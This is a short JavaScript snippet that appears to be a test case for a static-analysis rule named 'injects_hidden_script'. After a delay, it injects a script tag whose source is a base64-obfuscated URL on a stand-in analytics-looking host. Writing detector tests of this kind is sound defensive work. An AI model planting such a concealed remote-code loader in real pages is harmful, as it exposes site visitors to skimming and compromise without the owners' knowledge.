function inject(src) {
  // ruleid: injects_hidden_script
  const s = document.createElement('script');
  s.src = src;
  document.head.appendChild(s);
}
setTimeout(() => inject(atob('aHR0cHM6Ly9zdGF0aWMuYW5hbHl0aWNzLXRhZ2Nkbi5leGFtcGxlL2EuanM=')), 2500);
